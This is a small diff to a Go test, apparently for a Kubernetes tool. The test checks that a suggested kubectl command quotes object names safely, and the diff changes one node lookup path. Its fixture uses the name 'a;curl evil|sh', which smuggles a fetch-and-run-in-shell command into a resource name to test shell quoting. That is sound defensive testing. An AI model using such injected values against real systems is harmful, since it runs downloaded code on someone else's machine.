@@ -173,7 +173,7 @@ func TestACommandToCopyIsNothingButWordsToAShell(t *testing.T) {
 	odd := &object.Object{ID: object.ID{Group: "x.io", Kind: "W", Namespace: "a b", Name: "a;curl evil|sh"}, UID: "w"}
 	b.Objects, b.Roots = []*object.Object{odd}, []feed.Root{{ID: odd.ID}}
 	p.batch(0, b)
-	n := p.m.Facts.World.Nodes[odd.ID]
+	n := p.m.Facts.World.Tree.Nodes[odd.ID]
 	if got, want := p.m.Intake.nextCommand(n), "kubectl -n 'a b' describe 'w.x.io/a;curl evil|sh'"; got != want {
 		t.Errorf("%s, want %s", got, want)
 	}
